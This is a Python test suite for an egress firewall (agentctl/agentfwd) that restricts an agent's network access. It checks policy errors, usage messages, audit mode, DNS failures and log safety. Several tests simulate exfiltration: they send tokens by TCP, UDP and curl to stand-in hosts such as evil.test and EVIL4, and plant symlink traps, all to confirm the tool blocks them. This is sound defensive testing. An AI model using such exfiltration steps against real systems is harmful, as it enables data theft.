# SPDX-License-Identifier: GPL-2.0-or-later
"""The person: errors, audit mode, a machine that is not as it should be. Immunity row 30."""
import json
import os
import re
import subprocess

import lab as L
import topo
from lab import check

NAME = "api.allowed.test"
POLICY = L.policy(NAME)
CURL = "/usr/bin/curl"


def nothing_starts(lab, r, mark):
    check(r.rc == 125, "exit status", r.rc, r.tell())
    check(not os.path.exists(mark), "the command ran")
    check("agentctl" in r.err or ".yaml" in r.err, r.tell())
    lab.wait_clean()


def marked(lab):
    mark = os.path.join(lab.env()["HOME"], "ran")
    if os.path.exists(mark):
        os.unlink(mark)
    return mark, ["/usr/bin/touch", mark]


def test_row30_all_errors_at_once(lab):
    text = """version: 1
mode: enforced
egress:
  - api.allowed.test
  - "*.com"
  - https://bad host
  - tcp://noport.test
  - api.allowed.test:99999
egres:
  - x.test
dns: {servers: [not-an-address]}
dns: {servers: [203.0.113.53]}
agent: {user: nobody, usr: x}
"""
    mark, cmd = marked(lab)
    path = lab.file(".yaml", text)
    r = lab.run(path, cmd)
    nothing_starts(lab, r, mark)
    for line in (2, 5, 6, 7, 8, 9, 11, 12, 13):
        check("%s:%d:" % (path, line) in r.err, "no error for line", line, "in:", r.err)
    check("%s:4:" % path not in r.err, "a good line is blamed", r.err)
    columns = [l for l in r.err.splitlines() if l.startswith("%s:2:7" % path)]
    check(columns, "column of the value in line 2", r.err)


def test_row30_broken_files(lab):
    mark, cmd = marked(lab)
    for text in ("", "version: 2\n", "version: 1\negress: [\n", "a: b: c\n", "- x\n", "version: 1\negress: api.allowed.test\n",
                 "\0\1\2", "version: 1\n\tegress: []\n", "&a [*a]\n", "version: 1\negress: &x [a.test]\ndeny: *x\n" * 2):
        r = lab.run(lab.file(".yaml", text), cmd)
        nothing_starts(lab, r, mark)
        check(".yaml:" in r.err, repr(text), r.err)
    r = lab.run("/no/such/policy.yaml", cmd)
    nothing_starts(lab, r, mark)
    r = lab.run("/tmp", cmd)
    nothing_starts(lab, r, mark)


def test_row30_running_does_not_change(lab):
    """A broken policy beside a running fence leaves that one alone."""
    h = lab.start(POLICY, [L.PYTHON, "-c", "import sys, urllib.request\nprint('READY', flush=True)\nfor l in sys.stdin:\n"
                           "  print('GOT', urllib.request.urlopen('https://%s/', timeout=5).status, flush=True)" % NAME])
    r = lab.run("version: 1\negress: [\"*\"]\n", ["/bin/true"])
    check(r.rc == 125, r.tell())
    h.send("x")
    h.expect("GOT 200")
    h.stop()


def test_policy_check(lab):
    lab.need_product()
    good, bad = lab.file(".yaml", POLICY), lab.file(".yaml", "version: 1\negress:\n  - \"*.com\"\n")
    r = lab.bare([L.AGENTCTL, "policy", "check", good])
    check(r.rc == 0, r.tell())
    r = lab.bare([L.AGENTCTL, "policy", "check", bad])
    check(r.rc != 0 and bad + ":3:" in r.said, r.tell())


def test_usage(lab):
    lab.need_product()
    for args in ([], ["run"], ["run", "--"], ["nosuch"], ["run", "--nosuch", "--", "true"], ["run", "-p"]):
        r = lab.bare([L.AGENTCTL, *args])
        check(r.rc != 0 and r.err, args, r.tell())
        check(r.rc == 125 or "usage" in r.err.lower(), args, r.tell())


def test_usage_says_what(lab):
    """What was wrong, by whom, and what to write instead."""
    lab.need_product()
    good = lab.file(".yaml", POLICY)
    for args, *words in (
            (["nosuch"], "no command 'nosuch'", "run, tool, status"), (["polcy"], "did you mean 'policy'"),
            (["-p", "x"], "'-p' before a command", "agentctl run -p"),
            (["run", "--nosuch"], "'run' has no option '--nosuch'"), (["run", "-x"], "'run' has no option '-x'"),
            (["run", "-vx"], "'run' has no option '-x'"), (["tool", "--log-dri", "x"], "did you mean '--log-dir'"),
            (["run", "-p"], "'-p' needs a value"), (["log", "--log-dir"], "'--log-dir' needs a value"),
            (["run", "--audit=1", "--", "true"], "'--audit' takes no value"),
            (["status", "--nosuch"], "'status' has no option '--nosuch'"), (["status", "x"], "'x' is one word too many"),
            (["log", "x"], "'x' is one word too many"), (["doctor", "x"], "'x' is one word too many"),
            (["why", "a.test", "b.test"], "'b.test' is one word too many"), (["policy"], "check, groups, show or learn"),
            (["policy", "nosuch"], "no 'policy nosuch'"), (["policy", "chek"], "did you mean 'check'"),
            (["policy", "show", "-x"], "no option '-x'"), (["policy", "groups", "a", "b"], "'b' is one word too many"),
            (["policy", "learn", "--nosuch"], "no option '--nosuch'"), (["policy", "check"], "which file"),
            (["run", "-p", good, "--log-dir", "", "--", "true"], "names no directory", "leave it out"),
            (["policy", "check", "no/such.yaml"], "No such file", "counts from /"),
            (["run", "-p", "/no/such.yaml", "--", "true"], "No such file", "is the name right"),
            (["policy", "check", "/tmp"], "Is a directory", "name the policy file"),
            (["log", "-p", "/no/such.yaml"], "No such file", "is the name right")):
        r = lab.bare([L.AGENTCTL, *args])
        check(r.rc == 125 and not r.out, args, r.tell())
        check(all(w in r.err for w in words), args, words, r.err)
        check(all(l.startswith(("agentctl: ", "usage: agentctl ")) for l in r.err.splitlines()), args, r.err)
    for args in (["run", "--help"], ["policy", "-h"], ["policy", "check", "--help"], ["help", "why"]):
        r = lab.bare([L.AGENTCTL, *args])
        check(r.rc == 0 and r.out.startswith("usage: agentctl ") and not r.err, args, r.tell())
    r = lab.bare([L.AGENTCTL, "policy", "groups", "pypy"])
    check(r.rc == 1 and "did you mean 'pypi'" in r.err, r.tell())


def test_check_goes_on(lab):
    """A file that cannot be read does not keep the others from being checked."""
    good, bad = lab.file(".yaml", POLICY), lab.file(".yaml", "version: 2\n")
    r = lab.bare([L.AGENTCTL, "policy", "check", "/no/such.yaml", bad, good])
    check(r.rc == 125 and "/no/such.yaml" in r.err and bad + ":1:" in r.err and good + ": ok" in r.out, r.tell())
    r = lab.bare([L.AGENTCTL, "policy", "check", bad, good])
    check(r.rc == 1 and good + ": ok" in r.out, r.tell())


def test_cannot_be_run(lab):
    """127 for what is not there, also where its user may not search all of root's PATH; 126 for what is."""
    closed = lab.file(".bin")
    os.mkdir(closed, 0o700)
    script = lab.file(".sh", "#!/no/such/interpreter\n")
    os.chmod(script, 0o755)
    env = {"PATH": closed + ":" + lab.env()["PATH"]}
    for cmd, rc, *words in (("nosuch", 127, "No such file", "no directory of PATH", "'nobody'"),
                            ("/no/such", 127, "No such file"), (script, 127, "it is there", "interpreter"),
                            ("/etc/passwd", 126, "'nobody'", "read or execute"), ("/etc", 126, "no program")):
        r = lab.run(POLICY, [cmd], env=env)
        check(r.rc == rc and all(w in r.err for w in words), cmd, r.tell())
    check(lab.run(POLICY, ["true"], env=env).rc == 0, "what is there is found")


def test_audit_mode(lab):
    """All passes; what would be refused is told, with names and packets."""
    for options, pol in ((("--audit",), POLICY), ((), POLICY.replace("version: 1", "version: 1\nmode: audit"))):
        toks = [L.token() for _ in range(4)]
        r = lab.run(pol, lab.attack("several", list=json.dumps([
            ["connect", {"to": topo.EVIL4, "port": 9000, "token": toks[0], "wait": 0.3}],
            ["connect", {"to": topo.EVIL6, "port": 9000, "token": toks[1], "wait": 0.3}],
            ["udp_send", {"to": topo.EVIL4, "port": 9999, "token": toks[2]}],
            ["resolve", {"name": "evil.test"}],
            ["hello", {"to": topo.ALLOWED4, "port": 443, "sni": "shared.test", "token": toks[3]}],
            ["resolve", {"name": NAME}]])), options=options)
        res = r.json()["results"]
        check(res[0]["connect"] == res[1]["connect"] == "ok" and res[2]["back"], res)
        check(res[3]["addresses"] and res[4].get("back"), res)
        for tok in toks:
            lab.arrives(tok)
        for text in (topo.EVIL4, topo.EVIL6, "9999", "evil.test", topo.ALLOWED4):
            e = r.event(text=text)
            check(e["event"]["action"] == "would_deny", e)
        check(not r.events(action="denied"), [e["agentfw"] for e in r.events(action="denied")])
        check(not r.events(text='"' + NAME + '"', code="no-rule"), "an event for what is allowed")


def test_audit_curl(lab):
    for url in ("https://evil.test/", "https://%s/" % topo.EVIL4, "http://evil.test:8080/"):
        r = lab.run(POLICY, [CURL, "-sS", url], options=("--audit",))
        check(r.rc == 0 and "hello" in r.out, url, r.tell())
        e = r.event(action="would_deny", text='"network"')
        L.check_event(r, e, exe=CURL, command=url, packet=False)


def test_nxdomain(lab):
    """An allowed name that does not exist: the program is told so."""
    pol = L.policy("nosuch.gone.test")
    r = lab.run(pol, [CURL, "-sS", "https://nosuch.gone.test/"])
    check(r.rc == 6, r.tell())
    r = lab.run(pol, lab.attack("dns", server=topo.DNS4, name="nosuch.gone.test"))
    check(r.json()["rcode"] == 3 and r.json()["ms"] < 500, r.json())
    check(not r.events(), "no refusal, no event:", r.events())


def test_upstream_down(lab):
    """Nobody answers: a failure within seconds, not a hang; a refused port: at once."""
    lab.zone.dead = True
    r = lab.run(POLICY, lab.attack("dns", server=topo.DNS4, name=NAME))
    got = r.json()
    if got.get("error") == "TIMEOUT":  # attack.py waits for two seconds; ask once more with the time of glibc
        r = lab.run(POLICY, [CURL, "-sS", "--max-time", "9", "https://%s/" % NAME], timeout=15)
        check(r.rc == 6, "hangs while nobody answers:", r.tell())
    else:
        check(got["rcode"] == 2, got)
    lab.zone.dead = False
    pol = L.policy(NAME, dns=topo.ROUTER4)  # no server there: ICMP port unreachable
    r = lab.run(pol, lab.attack("dns", server=topo.DNS4, name=NAME))
    check(r.json().get("rcode") == 2 and r.json()["ms"] < 1500, r.json())


def test_second_server(lab):
    """The first server is down, the second answers."""
    pol = POLICY.replace('servers: ["%s"]' % topo.DNS4, 'servers: ["%s", "%s"]' % (topo.ROUTER4, topo.DNS4))
    r = lab.run(pol, [CURL, "-sS", "--max-time", "10", "https://%s/" % NAME])
    check(r.rc == 0 and "hello" in r.out, r.tell())


def test_server_by_ipv6(lab):
    r = lab.run(L.policy(NAME, dns=topo.DNS6), [CURL, "-sS", "https://%s/" % NAME])
    check(r.rc == 0 and "hello" in r.out, r.tell())


def test_no_root(lab):
    """As an ordinary user: a rootless fence, or one line that says what is missing; never no fence."""
    tok = L.token()
    lab.need_product()
    path = lab.file(".yaml", POLICY.replace("agent: {user: nobody}\n", ""))
    mark = lab.attack("connect", to=topo.EVIL4, port=9000, token=tok, wait=0.2)
    log_dir = os.path.join(lab.env()["HOME"], "nobodylog")
    r = lab._call(lab.enter() + ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", L.AGENTCTL, "run", "-p", path,
                                 "--log-dir", log_dir, "--"] + mark, 20)
    lab.absent(tok)
    check(r.rc == 125 and len(r.err.strip().splitlines()) <= 4 and r.err.strip() or
          (r.rc == 0 and '"ok"' not in r.out), r.tell())
    lab.wait_clean()


# With a run directory of its own a mount namespace is its daemon's as well.
OWN_RUN = "mkdir -p ${AGENTFW_RUN_DIR:=/run/agentfw} && mount -t tmpfs -o mode=755 none $AGENTFW_RUN_DIR && "


def in_mounts(lab, setup, argv):
    """agentctl run in a mount namespace of its own, after setup."""
    return lab.enter() + ["unshare", "-m", "--propagation", "private", "/bin/sh", "-c", OWN_RUN + setup + ' && exec "$@"',
                          "sh"] + argv


def run_in(lab, setup, pol, cmd, log_dir, timeout=30):
    lab.wait_clean()  # a daemon that runs already is in another mount namespace
    _, argv = lab.argv(pol, cmd, (), log_dir)
    return lab._call(in_mounts(lab, setup, argv[len(lab.enter()):]), timeout, log_dir)


def test_full_disk(lab):
    """The log's disk is full: nothing gets out, the losses are counted and said."""
    tok = L.token()
    where = lab.file(".disk")
    os.mkdir(where)
    # the kernel sends 50 ICMP errors at once and then a thousand a second (icmp_msgs_burst)
    calls = json.dumps([["udp_send", {"to": topo.EVIL4, "port": 9999, "token": tok, "size": 1400}]] * 40 +
                       [["connect", {"to": topo.EVIL4, "port": 9000, "token": tok}]] * 160)
    r = run_in(lab, "mount -t tmpfs -o size=48k none %s" % where, POLICY, lab.attack("several", list=calls),
               where + "/log")
    lab.absent(tok)
    check(r.rc == 0, r.tell())
    for got in r.json()["results"]:
        # The kernel sends no more than so many ICMP errors a second: a datagram may go unanswered.
        check(got.get("connect", got.get("error")) not in ("ok", None), got)
        check(got.get("connect") != "TIMEOUT" and got["ms"] < 1000, "slow:", got)
    check("lost" in r.err.lower() or "no space" in r.err.lower() or "could not be recorded" in r.err.lower(), "not a word about it:", r.err[-500:])
    lab.wait_clean()


def test_disk_nearly_full(lab):
    """Who is fenced does not fill the disk with what he is refused: packets stop before events, and both before the
    room that others have."""
    tok = L.token()
    where, left = lab.file(".disk"), lab.file(".left")
    os.mkdir(where)
    calls = json.dumps([["udp_send", {"to": topo.EVIL4, "port": 9000 + i, "token": tok, "size": 1400}] for i in range(40)])
    lab.wait_clean()
    _, argv = lab.argv(POLICY, lab.attack("several", list=calls), (), where + "/log")
    script = (OWN_RUN + "mount -t tmpfs -o size=4m none %s && dd if=/dev/zero of=%s/f bs=4k count=990 2>/dev/null; \"$@\"; r=$?; "
              "df -k --output=avail %s >%s; cp -r %s/log %s.log; exit $r" % (where, where, where, left, where, left))
    at = len(lab.enter())
    r = lab._call(argv[:at] + ["unshare", "-m", "--propagation", "private", "/bin/sh", "-c", script, "sh"] + argv[at:], 30)
    lab.absent(tok)
    check(r.rc == 0 and "could not be written" in r.err, r.tell())
    r.dir = left + ".log"
    check(len(r.events()) == 40, "events:", len(r.events()))
    check(sum(e["agentfw"]["lost"] for e in r.lines() if e["event"]["action"] == "lost") >= 40, "losses:", r.lines()[-2:])
    check(int(open(left).read().split()[1]) >= 40 and not r.packets(), open(left).read(), len(r.packets()))
    lab.wait_clean()


def test_disk_full_from_the_start(lab):
    tok = L.token()
    where = lab.file(".disk")
    os.mkdir(where)
    r = run_in(lab, "mount -t tmpfs -o size=16k none %s && (dd if=/dev/zero of=%s/f bs=1k 2>/dev/null; true)" % (where, where), POLICY,
               lab.attack("connect", to=topo.EVIL4, port=9000, token=tok), where + "/log")
    lab.absent(tok)
    check(r.rc == 125 or (r.rc == 0 and r.json()["connect"] == "ECONNREFUSED"), r.tell())
    check(r.err.strip(), "not a word")
    lab.wait_clean()


def test_log_dir_is_a_file(lab):
    mark, cmd = marked(lab)
    log = lab.file(".log", "a file")
    r = lab.run(POLICY, cmd, log_dir=log)
    nothing_starts(lab, r, mark)
    check(log in r.err, "the line does not name it:", r.err)
    check(open(log).read() == "a file")


def test_log_dir_read_only(lab):
    mark, cmd = marked(lab)
    where = lab.file(".ro")
    os.mkdir(where)
    r = run_in(lab, "mount -t tmpfs -o ro none %s" % where, POLICY, cmd, where + "/log")
    nothing_starts(lab, r, mark)
    check(where in r.err, r.err)


def test_log_dir_open_to_all(lab):
    """A directory in which others can put links is no place for evidence."""
    mark, cmd = marked(lab)
    where = lab.file(".open")
    os.mkdir(where)
    os.chmod(where, 0o777)
    r = lab.run(POLICY, cmd, log_dir=where)
    nothing_starts(lab, r, mark)


def test_log_file_is_a_link(lab):
    mark, cmd = marked(lab)
    for f in ("events.jsonl", "denied.pcap"):
        where, victim = lab.file(".d"), lab.file(".victim", "precious")
        os.mkdir(where, 0o700)
        os.symlink(victim, os.path.join(where, f))
        r = lab.run(POLICY, cmd, log_dir=where)
        nothing_starts(lab, r, mark)
        check(open(victim).read() == "precious")


def test_port_53_taken(lab):
    """Somebody's resolver runs in the namespace, on every address: it does not matter, and is not asked."""
    tok = L.token()
    code = """
import socket, select, sys
socks = []
for t in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    s = socket.socket(socket.AF_INET6, t); s.setsockopt(41, 26, 0); s.bind(('::', 53)); socks.append(s)
    if t == socket.SOCK_STREAM: s.listen(5)
print('READY', flush=True)
while True:
    for s in select.select(socks, [], [])[0]:
        print('ASKED', s.recv(500) if s.type == socket.SOCK_DGRAM else s.accept()[0].recv(500), flush=True)
"""
    p = subprocess.Popen(lab.enter() + [L.PYTHON, "-c", code], stdout=subprocess.PIPE)
    try:
        check(b"READY" in p.stdout.readline())
        r = lab.run(POLICY, [CURL, "-sS", "https://%s/" % NAME])
        check(r.rc == 0 or (r.rc == 125 and "53" in r.err), r.tell())
        for server in ("127.0.0.1", topo.AGENT4, "::1"):
            r = lab.run(POLICY, lab.attack("dns", server=server, name=tok + ".evil.test"))
            check(r.json()["rcode"] == 5, server, r.json())
    finally:
        p.kill()
        out = p.stdout.read()
        p.wait()
    check(tok.encode() not in out, "the neighbour was asked", out)


def test_wrong_command_line_of_the_daemon(lab):
    for args, word in ((["nonsense"], "'nonsense' is one word too many"), (["-n"], "which policy"),
                       (["--ready-fd", "x"], "'x' is no number"), (["--ready-fd", "77"], "no such descriptor"),
                       (["--ready-fd"], "needs a value"), (["--no-such"], "no option '--no-such'"),
                       (["-vx"], "no option '-x'"), (["--probe=1"], "'--probe' takes no value")):
        r = lab.bare([os.path.join(L.BUILD, "agentfwd")] + args, timeout=10)
        check(r.rc == 64 and r.err.startswith("agentfwd: ") and word in r.err and "usage" in r.err, args, r.tell())
    r = lab.bare([os.path.join(L.BUILD, "agentfwd"), "-n", "/no/such.yaml", lab.file(".yaml", POLICY)])
    check(r.rc == 1 and "No such file" in r.err and "is the name right" in r.err, r.tell())


def test_no_agentfwd(lab):
    """agentctl without its daemon beside it says what it looks for."""
    lab.need_product()
    import shutil
    alone = lab.file(".bin")
    os.mkdir(alone)
    shutil.copy(L.AGENTCTL, alone)
    mark, cmd = marked(lab)
    lab.wait_clean()  # one that runs already would do
    L.need(not shutil.which("agentfwd", path=lab.env()["PATH"]), "agentfwd is installed on this machine")
    r = lab._call(lab.enter() + [alone + "/agentctl", "run", "-p", lab.file(".yaml", POLICY), "--log-dir", lab.file(".log"), "--"] + cmd, 20)
    nothing_starts(lab, r, mark)
    check("agentfwd is not installed" in r.err and "hint: install both" in r.err, r.err)


def test_run_directory(lab):
    """One that the daemon, which runs in /, would take for another; one too long; one that cannot be made."""
    mark, cmd = marked(lab)
    for path, word in (("rel/run", "does not begin with '/'"), ("/tmp/" + "x" * 100, "too long"), ("/proc/x", "cannot make /proc/x")):
        r = lab.run(POLICY, cmd, env={"AGENTFW_RUN_DIR": path})
        nothing_starts(lab, r, mark)
        check(word in r.err and "agentfwd: agentfwd" not in r.err, r.err)
        r = lab.bare([os.path.join(L.BUILD, "agentfwd"), "--idle-exit"], env={"AGENTFW_RUN_DIR": path})
        check(r.rc == 71 and word in r.err, r.tell())


def test_cannot_fence_then_no_run(lab):
    """Where the rules cannot be had (no CAP_NET_ADMIN), the command does not start."""
    mark, cmd = marked(lab)
    lab.wait_clean()  # a daemon that runs already has what it needs
    _, argv = lab.argv(POLICY, cmd)
    n = len(lab.enter())
    r = lab._call(argv[:n] + ["setpriv", "--bounding-set=-net_admin", "--inh-caps=-net_admin"] + argv[n:], 20)
    nothing_starts(lab, r, mark)
    check("CAP_NET_ADMIN" in r.err and "hint: in a container" in r.err, r.err)


def test_user_that_does_not_exist(lab):
    mark, cmd = marked(lab)
    r = lab.run(L.policy(NAME, user="nosuchuser"), cmd)
    nothing_starts(lab, r, mark)
    check("nosuchuser" in r.err, r.err)


def test_agent_runs_as_its_user(lab):
    r = lab.run(POLICY, ["/usr/bin/id", "-u"])
    check(r.out.strip() == "65534", r.tell())
    r = lab.run(POLICY, ["/bin/sh", "-c", "cat /proc/self/status"])
    for field in ("CapEff", "CapPrm", "CapBnd", "CapAmb"):
        line = [l for l in r.out.splitlines() if l.startswith(field)][0]
        check(int(line.split()[1], 16) == 0, line)
    check("NoNewPrivs:\t1" in r.out, r.out)


def test_demo(lab):
    """What `make demo` shows, and where it says that the record is."""
    lab.need_product()
    L.need(os.path.exists("/usr/bin/tcpdump"), "no tcpdump")
    r = lab._call([os.path.join(L.ROOT, "demo", "run")], 30, env={"BUILD": L.BUILD})
    check(r.rc == 0 and "What the attacker got: nothing." in r.out and r.out.count("REFUSED") == 3, r.tell())
    check("(allowed)  hello from docs.example" in r.out, r.tell())
    where = re.findall(r"see: agentctl log --log-dir (\S+) --denied", r.err)
    check(where and re.findall(r"agentctl log --log-dir (\S+)$", r.out, re.M) == where, "not the same place", r.tell())
    log = lab.bare([L.AGENTCTL, "log", "--log-dir", where[0], "--denied"])
    check(log.rc == 0 and log.out and log.out in r.out, log.tell())


def test_log_commands(lab):
    """agentctl log reads what was written."""
    r = lab.run(POLICY, [CURL, "-sS", "https://evil.test/"])
    check(r.rc == 6, r.tell())
    out = lab.bare([L.AGENTCTL, "log", "--log-dir", r.dir])
    check(out.rc == 0 and "evil.test" in out.out, out.tell())
    out = lab.bare([L.AGENTCTL, "log", "--json", "--log-dir", r.dir])
    check(out.rc == 0 and all(json.loads(l) for l in out.out.splitlines()), out.tell())


def test_log_waits(lab):
    """-f begins before there is a log, says so, and shows what comes."""
    log_dir = lab.file(".log")
    p = subprocess.Popen(lab.enter() + [L.AGENTCTL, "log", "-f", "--log-dir", log_dir], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                         text=True, env=lab.env())
    said = p.stderr.readline()
    check("waiting for '%s/events.jsonl'" % log_dir in said, said)
    r = lab.run(POLICY, [CURL, "-sS", "https://evil.test/"], log_dir=log_dir)
    check(r.rc == 6, r.tell())
    lines = [p.stdout.readline(), p.stdout.readline()]
    p.terminate()
    check(p.wait(10) == 0 and "fence_started" in lines[0] and "evil.test" in lines[1], lines)


def test_summary_line(lab):
    """The person hears at the end that something was refused, and where to read it."""
    r = lab.run(POLICY, [CURL, "-sS", "https://evil.test/"])
    check(r.dir in r.err or "refused" in r.err, "not a word at the end:", r.err)


def test_default_policy(lab):
    """Where no policy is named, root takes ./agentfw.yaml only where nobody else can have written it."""
    d = lab.file(".d")
    os.mkdir(d, 0o755)
    path = os.path.join(d, "agentfw.yaml")

    def why(owner=0, group=0, mode=0o755, file_owner=0, file_mode=0o644, env=None, user=0, named=False):
        with open(path, "w") as f:
            f.write("version: 1\negress: [a.test]\n")
        for at, o, m in ((path, file_owner, file_mode), (d, owner, mode)):
            os.chown(at, o, group)
            os.chmod(at, m)
        who = ["setpriv", "--reuid=%d" % user, "--regid=%d" % user, "--clear-groups"] if user else []
        return lab.bare(who + [L.AGENTCTL, "why"] + (["-p", "./agentfw.yaml"] if named else []) + ["a.test"], cwd=d, env=env)

    alice = {"SUDO_UID": "1000", "SUDO_GID": "1000"}
    for kw in ({}, {"mode": 0o775}, {"owner": 1000, "file_owner": 1000, "env": alice}, {"user": 1000, "owner": 1001},
               {"owner": 1000, "group": 1000, "mode": 0o775, "env": alice}, {"mode": 0o777, "named": True}):
        r = why(**kw)
        check(r.rc == 0, kw, r.tell())
    for kw in ({"mode": 0o777}, {"mode": 0o1777}, {"owner": 1000}, {"file_owner": 1000}, {"file_mode": 0o666},
               {"group": 100, "mode": 0o775}, {"owner": 1001, "env": alice}, {"owner": 1000, "env": dict(alice, SUDO_UID="0")},
               {"owner": 1000, "group": 100, "mode": 0o775, "env": alice}):
        r = why(**kw)
        check(r.rc == 125 and "is not taken" in r.err and "-p ./agentfw.yaml" in r.err, kw, r.tell())
    # a link is none, not even to a file of root's: whoever made it has chosen which; nor is a FIFO waited for
    e = lab.file(".d")
    os.mkdir(e, 0o755)
    link = os.path.join(e, "agentfw.yaml")
    for mode in (0o755, 0o777):
        os.chmod(d, mode)
        os.symlink(path, link)
        r = lab.bare([L.AGENTCTL, "why", "a.test"], cwd=e)
        check(r.rc == 125 and "is not taken: it is a link" in r.err, r.tell())
        os.unlink(link)
    os.symlink("nowhere", link)
    r = lab.bare([L.AGENTCTL, "why", "a.test"], cwd=e)
    check(r.rc == 125 and "is not taken: it is a link" in r.err, r.tell())
    os.unlink(link)
    os.mkfifo(link)
    r = lab.bare([L.AGENTCTL, "why", "a.test"], cwd=e, timeout=5)
    check(r.rc == 125 and "is no regular file" in r.err, r.tell())
